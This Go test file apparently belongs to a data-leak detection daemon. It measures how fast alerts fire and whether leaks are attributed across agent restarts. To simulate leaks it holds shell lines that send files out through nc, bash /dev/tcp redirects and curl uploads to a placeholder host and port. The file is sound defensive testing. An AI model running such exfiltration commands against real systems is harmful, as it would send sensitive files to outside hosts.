package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// hook is a receiver of alerts, which remembers when it was told of what.
type hook struct {
	mu   sync.Mutex
	told map[string]time.Time // by subject
}

func (h *hook) ServeHTTP(_ http.ResponseWriter, r *http.Request) {
	var document struct {
		Alerts []struct{ Check, Subject, Status string }
	}
	now := time.Now()
	if json.NewDecoder(r.Body).Decode(&document) != nil {
		return // the leak will not be found among what was told
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, alert := range document.Alerts {
		if _, known := h.told[alert.Subject]; !known && alert.Check == "NET-001" && alert.Status == "firing" {
			h.told[alert.Subject] = now
		}
	}
}

func (h *hook) when(subject string) time.Time {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.told[subject]
}

// From the first byte outside to the alert at a webhook it takes a second at most.
func TestAlertWithinASecond(t *testing.T) {
	const leaks, bound = 100, time.Second
	l := newLab(t)
	l.sink(t, nil)
	h := &hook{told: make(map[string]time.Time)}
	receiver := httptest.NewServer(h)
	t.Cleanup(receiver.Close)
	l.more = fmt.Sprintf("[alerts]\nrate = 6000\n[[alerts.receiver]]\nname = \"operations\"\nkind = \"webhook\"\nurl = %q\n", receiver.URL)
	l.start(t, "")
	var took []time.Duration
	for i := range leaks {
		time.Sleep(rand.N(300 * time.Millisecond)) // anywhere in the daemon's ticks
		s := &scenario{store: "registry", port: timedPort + i, dir: l.dir}
		script := `"$CARRY" send "$D" "$OUT" "$PORT"`
		if i%2 == 1 {
			script = `cat "$D" | nc -N "$OUT" "$PORT"`
		}
		l.must(t, l.command(s, script))
		for end := time.Now().Add(10 * time.Second); h.when(s.subject()).IsZero() && time.Now().Before(end); {
			time.Sleep(5 * time.Millisecond)
		}
		came, err := arrivals(l.path("sink.sock"))
		if err != nil {
			t.Fatal(err)
		}
		if told := h.when(s.subject()); told.IsZero() {
			t.Errorf("%s: no alert", s.subject())
		} else {
			took = append(took, told.Sub(came[s.port].First))
			if late := took[len(took)-1]; late > bound {
				t.Logf("%v after %s", late, script)
			}
		}
	}
	if len(took) == 0 {
		t.FailNow()
	}
	slices.Sort(took)
	p50, p99, most := took[len(took)/2], took[(len(took)-1)*99/100], took[len(took)-1]
	t.Logf("from the first byte outside to the alert, %d leaks: p50 %v, p99 %v, most %v", len(took),
		p50.Round(time.Millisecond), p99.Round(time.Millisecond), most.Round(time.Millisecond))
	if most > bound {
		t.Errorf("%v is too late, at most %v", most, bound)
	}
}

// What was read while an agent ran, or while none did, is known to the one that
// runs when it is sent.
func TestLeakAcrossRestart(t *testing.T) {
	const variable = "CITYWARD_TEST_BATTERY"
	needRoot(t)
	if os.Getenv(variable) == "" {
		cmd := exec.CommandContext(t.Context(), os.Args[0], "-test.run=^"+t.Name()+"$", "-test.v", "-test.timeout=100s")
		cmd.Env = append(os.Environ(), variable+"=1")
		cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: unix.CLONE_NEWNS}
		out, err := cmd.CombinedOutput()
		if strings.Contains(string(out), "--- SKIP") {
			skip(t, "this kernel permits no capture that is pinned")
		}
		if err != nil || !strings.Contains(string(out), "--- PASS: "+t.Name()) {
			t.Fatalf("%v\n%s", err, out)
		}
		return
	}
	mount := t.TempDir()
	if err := unix.Mount("bpf", mount, "bpf", 0, ""); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = unix.Unmount(mount, unix.MNT_DETACH) })
	acrossRestart(t, filepath.Join(mount, "cityward"))
}

// restarts are ways that begin before the agent is started anew, and end after.
func restarts() []*scenario {
	const wait = `touch ready; until [ -e go ]; do sleep 0.1; done; `
	return []*scenario{
		{
			name: "read before the agent's restart", store: "registry", carrier: "bash", how: direct,
			before: `mapfile -t all <"$D"; ` + wait + `printf '%s\n' "${all[@]}" >"/dev/tcp/$OUT/$PORT"`,
		},
		{
			name: "a child of who had read before the restart", store: "registry", carrier: "bash", how: descendant, least: 2000,
			before: `text=$(<"$D"); export TEXT=${text:0:2000}; setsid -f bash -c '` + wait + `printf %s "$TEXT" >"/dev/tcp/$OUT/$PORT"'`,
		},
		{
			name: "copied before the restart", store: "registry", carrier: "curl", how: derived,
			before: `cp "$D" copy; ` + wait + `curl -sST copy "$U"`,
		},
		{
			name: "read while no agent ran", store: "payroll", carrier: "bash", how: direct,
			before: `mapfile -t all <"$P"; ` + wait + `printf '%s\n' "${all[@]}" >"/dev/tcp/$OUT/$PORT"`,
		},
	}
}

func acrossRestart(t *testing.T, pins string) {
	t.Helper()
	all := restarts()
	earlier, between := all[:3], all[3:]
	l := newLab(t)
	l.sink(t, l.prepare(t, all))
	l.start(t, pins)
	l.begin(t, earlier)
	if err := l.daemon.Process.Signal(unix.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := l.daemon.Wait(); err != nil {
		t.Fatalf("%v\n%s", err, l.daemon.log())
	}
	l.begin(t, between)
	l.again(t)
	o := l.observe(t)
	for _, s := range all {
		writeFile(t, filepath.Join(s.dir, "go"), "")
	}
	o.settle(all)
	for _, s := range all {
		if problem := o.problem(s); problem != "" {
			t.Errorf("%s: %s\n%s", s.name, problem, l.links(t, s))
		}
	}
}
